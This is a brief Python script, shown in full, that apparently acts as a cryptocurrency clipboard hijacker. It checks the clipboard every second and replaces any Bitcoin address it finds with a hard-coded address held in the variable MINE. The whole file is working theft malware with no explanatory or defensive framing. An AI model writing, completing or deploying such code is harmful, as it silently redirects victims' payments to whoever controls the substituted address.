import re
import time

import pyperclip

MINE = "made-up-address"
while True:
    text = pyperclip.paste()
    if re.match("^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        pyperclip.copy(MINE)
    time.sleep(1)
